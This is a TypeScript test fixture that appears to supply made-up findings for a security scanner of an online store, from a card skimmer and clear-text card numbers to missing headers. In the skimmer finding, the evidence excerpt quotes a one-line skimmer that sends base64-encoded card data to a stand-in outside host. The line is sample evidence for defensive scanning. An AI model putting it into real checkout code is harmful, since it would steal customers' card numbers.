import type { Evidence, Finding, Remedy, Severity, Who } from '../src/core/finding.ts';
import type { Masked } from '../src/core/masked.ts';
import type { Side } from '../src/core/side.ts';

/** Made-up flaws of a store in trouble, one of each kind. */

function masked(text: string): Masked {
  return text as Masked; // made up here; nothing secret in it
}

export interface Made {
  readonly check: string;
  readonly title: string;
  readonly side: Side;
  readonly severity: Severity;
  readonly who: Who;
  readonly why: string;
  readonly remedy: Pick<Remedy, 'says' | 'effort'> & { readonly steps?: readonly string[] };
  readonly standards: readonly string[];
  readonly seen: readonly {
    readonly subject: string;
    readonly says: string;
    readonly evidence?: readonly Evidence[];
    readonly more?: Partial<Finding>;
  }[];
}

/** Each flaw with its findings. */
export const made: readonly Made[] = [
  {
    check: 'card-skimmer',
    title: 'A card skimmer is on the payment page',
    side: 'files',
    severity: 'critical',
    who: 'developer',
    why: 'Whoever planted it reads every card number as it is typed. Customers lose money, and the card brands ask for a costly investigation.',
    remedy: {
      says: 'Take the store offline for orders and have the planted code examined and removed.',
      effort: 'hours',
      steps: [
        'Keep a copy of the file and of the logs before anything is changed.',
        'Put the store into maintenance mode.',
        'Restore the file from the official release.',
        'Change all admin passwords and keys.',
      ],
    },
    standards: ['pci-dss-4.0.1:11.6.1', 'pci-dss-4.0.1:6.4.3', 'owasp-2025:A08', 'gdpr:32'],
    seen: [
      {
        subject: 'js/checkout/validation.js',
        says: 'The file reads the fields of the card form and sends them to an address that is not yours.',
        evidence: [
          {
            kind: 'file',
            path: 'js/checkout/validation.js',
            line: 118,
            excerpt: masked('new Image().src = "https://cdn-stat.example/?d=" + btoa(card)'),
          },
        ],
        more: { confidence: 'certain', knownExploited: true, loss: { mean: 41_200, p90: 120_000, currency: 'EUR' } },
      },
    ],
  },
  {
    check: 'card-number-in-clear',
    title: 'Card numbers are stored in clear',
    side: 'database',
    severity: 'critical',
    who: 'developer',
    why: 'Anyone who gets a copy of the database, or of a backup, can use the cards.',
    remedy: {
      says: 'Seal or erase the column.',
      effort: 'hours',
      steps: ['Look at the plan: storewarden vault plan.', 'Seal the column.', 'Erase old dumps.'],
    },
    standards: ['pci-dss-4.0.1:3.5.1', 'pci-dss-4.0.1:3.2.1'],
    seen: [
      {
        subject: 'sales_flat_order_payment.cc_number',
        says: '1,240 rows hold whole card numbers.',
        evidence: [
          {
            kind: 'rows',
            table: 'sales_flat_order_payment',
            column: 'cc_number',
            count: 1240,
            row: '81',
            sample: masked('411111******1111'),
          },
        ],
        more: { confidence: 'certain' },
      },
    ],
  },
  {
    check: 'engine-outdated',
    title: 'The store software is behind on security releases',
    side: 'files',
    severity: 'high',
    who: 'developer',
    why: 'Holes that are mended in newer releases are public. Programs look for stores that still have them.',
    remedy: {
      says: 'Update Magento Open Source to 2.4.8-p3.',
      effort: 'days',
      steps: ['Make a backup.', 'Try the update on a copy.', 'Update the live store.'],
    },
    standards: ['pci-dss-4.0.1:6.3.3', 'owasp-2025:A03'],
    seen: [
      {
        subject: 'Magento Open Source 2.4.6-p3',
        says: 'Version 2.4.6-p3 is of 10 October 2023; seven security releases came after it.',
        evidence: [{ kind: 'file', path: 'composer.lock', line: 4 }],
        more: { advisories: ['CVE-2024-34102', 'CVE-2025-54236'], knownExploited: true },
      },
    ],
  },
  {
    check: 'weak-admin-password',
    title: 'The password of an admin can be guessed',
    side: 'accounts',
    severity: 'high',
    who: 'owner',
    why: 'With it a stranger enters the admin area and can do all that you can.',
    remedy: { says: 'Give these accounts new, long passwords and a second factor.', effort: 'minutes' },
    standards: ['pci-dss-4.0.1:8.3.6', 'asvs-5.0.0:V6'],
    seen: ['admin', 'maria', 'lager'].map((login) => ({
      subject: login,
      says: `The password of "${login}" is among the words that a guesser tries first.`,
      evidence: [{ kind: 'setting', name: 'form of the hash', value: masked('md5-salted') }] as const,
      more: { change: 'new' } as const,
    })),
  },
  {
    check: 'exposed-database-dump',
    title: 'A copy of the database can be downloaded',
    side: 'web',
    severity: 'high',
    who: 'host',
    why: 'It holds every customer, order and password hash of the store.',
    remedy: { says: 'Remove the file and refuse such names in the web server.', effort: 'minutes' },
    standards: ['owasp-2025:A02', 'gdpr:32'],
    seen: [
      {
        subject: 'https://shop.example/backup.sql.gz',
        says: 'The file answers to anyone, and begins like a database dump.',
        evidence: [
          {
            kind: 'page',
            url: 'https://shop.example/backup.sql.gz',
            status: 200,
            excerpt: masked('-- MySQL dump 10.13'),
          },
        ],
      },
    ],
  },
  {
    check: 'weak-file-permissions',
    title: 'Files with secrets can be read by others on the server',
    side: 'files',
    severity: 'medium',
    who: 'host',
    why: 'Other customers of the same server may read the database password.',
    remedy: { says: 'Take the rights of others away.', effort: 'minutes' },
    standards: ['pci-dss-4.0.1:7.2.1'],
    seen: [
      'app/etc/env.php',
      'app/etc/config.php',
      '.env',
      'var/log/payment.log',
      'var/backups/a very long name of a backup file <that> breaks & "quotes" everything.sql',
    ].map((path) => ({
      subject: path,
      says: 'Everybody on the server may read it.',
      evidence: [{ kind: 'file', path }] as const,
    })),
  },
  {
    check: 'csp-missing',
    title: 'No content security policy',
    side: 'web',
    severity: 'medium',
    who: 'developer',
    why: 'Without one, a script that slips in may load anything and send it anywhere.',
    remedy: { says: 'Send a Content-Security-Policy, first in report-only mode.', effort: 'days' },
    standards: ['pci-dss-4.0.1:6.4.3'],
    seen: [
      {
        subject: 'https://shop.example/',
        says: 'The page is sent without the header Content-Security-Policy.',
        evidence: [{ kind: 'page', url: 'https://shop.example/', status: 200 }],
      },
    ],
  },
  {
    check: 'card-saving-enabled',
    title: 'A payment method saves cards',
    side: 'database',
    severity: 'medium',
    who: 'payment-provider',
    why: 'Saved cards are worth stealing.',
    remedy: { says: "Ask for the provider's own hosted form.", effort: 'hours' },
    standards: ['pci-dss-4.0.1:3.2.1'],
    seen: [
      {
        subject: 'ccsave',
        says: 'The method "ccsave" is on.',
        evidence: [{ kind: 'setting', name: 'payment/ccsave/active', value: masked('1') }],
      },
    ],
  },
  {
    check: 'cookie-without-samesite',
    title: 'A cookie is sent along from other sites',
    side: 'web',
    severity: 'low',
    who: 'developer',
    why: 'It makes forged requests easier.',
    remedy: { says: 'Set SameSite=Lax.', effort: 'minutes' },
    standards: ['asvs-5.0.0:V3'],
    seen: [
      {
        subject: 'shop.example: PHPSESSID',
        says: 'The cookie PHPSESSID has no SameSite.',
        more: { confidence: 'tentative', change: 'known' },
      },
    ],
  },
  {
    check: 'version-disclosed',
    title: 'The server tells its version',
    side: 'web',
    severity: 'info',
    who: 'host',
    why: 'It saves an attacker a little time.',
    remedy: { says: 'Switch the version off in the settings of the server.', effort: 'minutes' },
    standards: ['owasp-2025:A02'],
    seen: [{ subject: 'Server', says: 'The header Server says nginx/1.18.0.' }],
  },
];
